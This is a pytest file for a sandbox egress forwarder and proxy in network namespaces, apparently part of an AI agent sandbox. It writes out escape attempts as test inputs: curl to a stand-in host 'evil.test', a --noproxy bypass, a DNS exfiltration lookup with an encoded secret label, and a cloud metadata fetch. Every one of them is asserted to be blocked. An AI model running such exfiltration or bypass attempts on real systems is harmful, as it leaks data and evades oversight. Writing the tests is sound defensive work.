"""The forwarder in real network namespaces: a bubblewrap sandbox (held with ``--block-fd``
until the forwarder is ready, as the bwrap backend does) whose only way out is the forwarder,
reaching real origins on the host's loopback through the egress proxy."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
import textwrap
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from codor.errors import SandboxNetworkError
from codor.sandbox.forwarder import proxy_env, resolv_conf, spawn_forwarder, start_forwarder
from codor.sandbox.proxy import EgressProxy
from tests.sandbox.netns import SRC, bare_netns, in_python, jail, need_namespaces
from tests.sandbox.origins import Witness, make_cert, origin, running_proxy

PATH = "/usr/local/bin:/usr/bin:/bin"


@pytest.fixture(autouse=True)
def _namespaces() -> None:
    need_namespaces()


@dataclass
class World:
    """Origins on the host's loopback and a proxy in front of them."""

    proxy: EgressProxy
    witness: Witness
    http_port: int
    tls_port: int
    cert: Path
    home: Path

    def run_inside(self, code: str, *, with_proxy_env: bool = True) -> dict[str, Any]:
        """Run Python ``code`` (which prints one JSON object) in a sandbox with a forwarder."""
        resolv = self.home / "resolv.conf"
        resolv.write_text(resolv_conf())
        env = {"PATH": PATH, **(proxy_env() if with_proxy_env else {})}
        body = textwrap.dedent(code).format(http=self.http_port, tls=self.tls_port,
                                            cert=str(self.cert), sock=self.proxy.socket_path)
        with jail(in_python(body), hide=[Path(self.proxy.socket_path).parent], resolv=resolv,
                  env=env) as held:
            forwarder = start_forwarder(held.child_pid, self.proxy.socket_path,
                                        ports=(self.http_port, self.tls_port),
                                        http_ports=(self.http_port,))
            try:
                forwarder.ready()
                code_, out, err = held.finish()
            finally:
                forwarder.close()
        assert code_ == 0, err
        time.sleep(0.05)  # let the proxy's event thread catch up
        result: dict[str, Any] = json.loads(out)
        return result


@contextmanager
def world(tmp_path: Path) -> Iterator[World]:
    cert = make_cert(tmp_path, ["allowed.test", "other.test"])
    sock_dir = tmp_path / "proxy"
    sock_dir.mkdir()
    with origin() as web, origin(cert.server_context()) as tls_web, \
            running_proxy(sock_dir) as (proxy, witness):
        yield World(proxy, witness, web.port, tls_web.port, cert.cert, tmp_path)


PRELUDE = """
import json, os, socket, ssl, subprocess
out = {{}}
def curl(*args):
    r = subprocess.run(["curl", "-sS", "-m", "10", *args], capture_output=True, text=True)
    return r.returncode, r.stdout, r.stderr
def attempt(fn):
    try:
        return fn()
    except Exception as exc:
        return type(exc).__name__
"""


def test_inside_only_the_proxy_reaches_allowed_hosts(tmp_path: Path) -> None:
    """curl with the proxy variables: allowed http and https work, a denied host gets the
    403 with CODOR's headers, and there is no other way out (escape classes 6, 8, 10)."""
    with world(tmp_path) as w:
        got = w.run_inside(PRELUDE + """
out["http"] = curl("http://allowed.test:{http}/plain")
out["denied"] = curl("-i", "http://evil.test:{http}/")
out["https"] = curl("--cacert", "{cert}", "https://allowed.test:{tls}/tls")
out["suffix"] = curl("-i", "http://allowed.test.evil.test:{http}/")
out["bypass"] = curl("--noproxy", "*", "http://127.0.0.1:{http}/")
out["direct"] = attempt(lambda: socket.create_connection(("127.0.0.1", {http}), 3) and "open")
out["links"] = [name for _, name in socket.if_nameindex()]
out["routes"] = open("/proc/net/route").read().splitlines()[1:]
out["proxy_socket_visible"] = os.path.exists("{sock}")
print(json.dumps(out))
""")
    code, body, _ = got["http"]
    assert code == 0 and json.loads(body)["path"] == "/plain"
    code, text, _ = got["denied"]
    assert "403 Forbidden" in text and "X-Codor-Decision: deny" in text
    assert "X-Codor-Rule: egress.default" in text
    code, body, err = got["https"]
    assert code == 0 and json.loads(body)["path"] == "/tls", err
    assert "403 Forbidden" in got["suffix"][1]
    assert got["bypass"][0] != 0  # class 8: nothing listens on the sandbox's own loopback
    assert got["direct"] == "ConnectionRefusedError"
    assert got["links"] == ["lo"] and got["routes"] == []
    assert got["proxy_socket_visible"] is False  # class 6: not mounted into the sandbox
    methods = [(a.method, a.host or a.url) for a, _ in w.witness.decisions]
    assert ("CONNECT", "allowed.test") in methods
    assert all("evil" not in name for name in w.witness.lookups)


def test_dns_inside_resolves_only_allowed_names_to_fake_addresses(tmp_path: Path) -> None:
    """Programs that ignore proxy variables: allowed names resolve to a fake address that
    leads to the origin (http and TLS); denied names are NXDOMAIN and no query leaves
    (escape class 9); an allowed name pointing at metadata is refused (class 12)."""
    with world(tmp_path) as w:
        got = w.run_inside(PRELUDE + """
def fetch(name, port, path):
    s = socket.create_connection((name, port), 5)
    crlf = "\\r\\n"
    s.sendall(f"GET {{path}} HTTP/1.1{{crlf}}Host: {{name}}:{{port}}{{crlf}}"
              f"Connection: close{{crlf}}{{crlf}}".encode())
    data = b""
    while chunk := s.recv(65536):
        data += chunk
    s.close()
    return data.decode(errors="replace")
def tls_fetch(name, sni):
    ctx = ssl.create_default_context(cafile="{cert}")
    ctx.check_hostname = False
    with socket.create_connection((name, {tls}), 5) as raw:
        with ctx.wrap_socket(raw, server_hostname=sni) as s:
            s.sendall(b"GET /fake-tls HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
            return s.recv(65536).decode(errors="replace")
out["allowed"] = socket.gethostbyname("allowed.test")
out["again"] = socket.gethostbyname("allowed.test")
out["aaaa"] = attempt(lambda: socket.getaddrinfo("allowed.test", 80, socket.AF_INET6))
out["evil"] = attempt(lambda: socket.gethostbyname("evil.test"))
out["exfil"] = attempt(lambda: socket.gethostbyname("c2VjcmV0LWRhdGE.evil.test"))
out["http"] = fetch("allowed.test", {http}, "/via-fake")
out["tls"] = attempt(lambda: tls_fetch("allowed.test", "allowed.test"))
out["sni_mismatch"] = attempt(lambda: tls_fetch("allowed.test", "other.test"))
out["meta"] = attempt(lambda: fetch("meta.test", {http}, "/latest/meta-data/"))
print(json.dumps(out))
""", with_proxy_env=False)
    assert got["allowed"] == got["again"] and got["allowed"].startswith("127.77.")
    assert got["aaaa"] == "gaierror"  # no AAAA answer: IPv4 only
    assert got["evil"] == got["exfil"] == "gaierror"
    assert got["http"].startswith("HTTP/1.1 200") and '"path": "/via-fake"' in got["http"]
    assert got["tls"].startswith("HTTP/1.1 200")
    assert got["sni_mismatch"] in ("SSLEOFError", "ConnectionResetError", "SSLError")
    assert got["meta"].startswith("HTTP/1.1 403") and "proxy.resolved_address" in got["meta"]
    denied = [a.host for a, d in w.witness.decisions if d.decision == "deny"]
    assert "c2vjcmv0lwrhdge.evil.test" in denied  # recorded, not resolved
    assert not any("evil" in name for name in w.witness.lookups)
    assert "proxy.sni_mismatch" in w.witness.rules()


def test_the_forwarder_is_hardened_and_invisible_inside(tmp_path: Path) -> None:
    pids = "import json, os; print(json.dumps([p for p in os.listdir('/proc') if p.isdigit()]))"
    with world(tmp_path) as w, jail(in_python(pids),
                                    hide=[Path(w.proxy.socket_path).parent]) as held:
        forwarder = start_forwarder(held.child_pid, w.proxy.socket_path)
        info = forwarder.ready()
        status = Path(f"/proc/{forwarder.pid}/status").read_text()
        caps = {k: v.strip() for k, _, v in (line.partition(":") for line in
                                             status.splitlines())}
        code, out, _ = held.finish()
        forwarder.close()
    assert info.proxy_port == 3128 and info.dns_port == 53 and info.ports == (80, 443)
    assert caps["CapEff"] == f"{1 << 10:016x}"  # CAP_NET_BIND_SERVICE only
    assert caps["NoNewPrivs"] == "1"
    assert code == 0 and all(int(p) < 10 for p in json.loads(out))  # its own PID namespace
    assert forwarder.poll() is not None


def test_a_bare_network_namespace_gets_loopback_and_listeners(tmp_path: Path) -> None:
    """``unshare --net`` leaves ``lo`` down; the forwarder brings it up. The client enters the
    namespace with nsenter (util-linux), like an operator would."""
    with running_proxy(tmp_path) as (proxy, witness), bare_netns() as pid:
        forwarder = start_forwarder(pid, proxy.socket_path, dns_port=None, loopback="up")
        forwarder.ready()
        client = subprocess.run(
            ["nsenter", "--target", str(pid), "--user", "--net", "--preserve-credentials", "--",
             sys.executable, "-I", "-c",
             "import socket; s = socket.create_connection(('127.0.0.1', 3128), 5); "
             "s.sendall(b'GET http://evil.test/ HTTP/1.1\\r\\n\\r\\n'); print(s.recv(200))"],
            capture_output=True, text=True, timeout=30, check=False)
        forwarder.close()
    assert "403 Forbidden" in client.stdout, client.stderr
    assert witness.rules() == ["egress.default"]


def test_a_namespace_owned_by_our_own_user_namespace(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("'unshare --net' without a user namespace needs root")
    holder = subprocess.Popen(["unshare", "--net", "--", "sleep", "60"])
    try:
        while os.readlink(f"/proc/{holder.pid}/ns/net") == os.readlink("/proc/self/ns/net"):
            time.sleep(0.01)
        with running_proxy(tmp_path) as (proxy, _):
            forwarder = start_forwarder(holder.pid, proxy.socket_path, dns_port=None,
                                        loopback="up")
            assert forwarder.ready().proxy_port == 3128
            forwarder.close()
    finally:
        holder.kill()
        holder.wait()


def test_failures_are_reported_not_hung(tmp_path: Path) -> None:
    gone = subprocess.Popen(["true"])
    gone.wait()
    with pytest.raises(SandboxNetworkError, match="network namespace"):
        start_forwarder(gone.pid, tmp_path / "none.sock")
    with pytest.raises(SandboxNetworkError):
        start_forwarder(None, tmp_path / "none.sock")
    with bare_netns() as pid:
        first = start_forwarder(pid, tmp_path / "none.sock", dns_port=None, loopback="up")
        first.ready()
        second = start_forwarder(pid, tmp_path / "none.sock", dns_port=None,
                                 loopback="up")  # 3128 is taken
        with pytest.raises(SandboxNetworkError, match="Address already in use"):
            second.ready()
        assert second.poll() is not None
        first.close()
        first.close()
        assert first.poll() is not None


def test_an_unknown_option_fails_the_call_and_starts_nothing(tmp_path: Path) -> None:
    with pytest.raises(TypeError, match="unknown forwarder options: prots"):
        spawn_forwarder(tmp_path / "none.sock", prots=(80,))  # type: ignore[call-arg]


def test_proxy_env_and_resolv_conf() -> None:
    env = proxy_env(3128)
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY",
                 "npm_config_proxy", "npm_config_https_proxy", "PIP_PROXY"):
        assert env[name] == "http://127.0.0.1:3128"
    assert env["NO_PROXY"] == env["no_proxy"] == "localhost,127.0.0.1,::1"
    assert resolv_conf().splitlines()[0] == "nameserver 127.0.0.1"


NOBODY_SCRIPT = """
import json, os, subprocess, sys
sys.path.insert(0, {src!r})
from codor.sandbox.forwarder import proxy_env, start_forwarder
info_r, info_w = os.pipe()
block_r, block_w = os.pipe()
env = []
for k, v in {{"PATH": {path!r}, **proxy_env()}}.items():
    env += ["--setenv", k, v]
jail = subprocess.Popen(
    ["bwrap", "--unshare-user", "--unshare-net", "--unshare-pid", "--die-with-parent",
     "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", {shared!r},
     "--clearenv", *env, "--info-fd", str(info_w), "--block-fd", str(block_r), "--",
     "curl", "-sS", "-m", "10", "http://allowed.test:{port}/nobody"],
    pass_fds=(info_w, block_r), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
os.close(info_w)
os.close(block_r)
child = json.loads(os.fdopen(info_r, "rb").read())["child-pid"]
fwd = start_forwarder(child, {sock!r}, python=sys.executable)
fwd.ready()
os.write(block_w, b"1")
out, err = jail.communicate(timeout=30)
fwd.close()
print(json.dumps([os.getuid(), jail.returncode, out, err]))
"""


def test_a_non_root_user_can_run_sandbox_and_forwarder(tmp_path: Path) -> None:
    """The same path as an unprivileged user: bubblewrap nests user namespaces, and the
    forwarder joins the one that owns the network namespace (``nsenter --user --target``
    could not). Run with the system Python: the venv's lives under root's home."""
    system_python = "/usr/bin/python3"
    if os.geteuid() != 0 or not os.access(system_python, os.X_OK):
        pytest.skip("needs root (to switch to an unprivileged user) and /usr/bin/python3")
    shared = Path(tempfile.mkdtemp(prefix="codor-fwd-"))
    try:
        shared.chmod(0o755)
        with origin() as web, running_proxy(shared, socket_mode=0o666) as (proxy, witness):
            script = NOBODY_SCRIPT.format(src=SRC, path=PATH, shared=str(shared), port=web.port,
                                          sock=proxy.socket_path)
            run = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                                  "--", system_python, "-I", "-c", script],
                                 capture_output=True, text=True, timeout=60, check=False,
                                 cwd=shared)
            time.sleep(0.05)
        assert run.returncode == 0, run.stderr
        uid, rc, out, err = json.loads(run.stdout)
        assert uid == 65534
        assert rc == 0 and json.loads(out)["path"] == "/nobody", err
        assert [d.decision for _, d in witness.decisions] == ["allow"]
    finally:
        subprocess.run(["rm", "-rf", str(shared)], check=True)
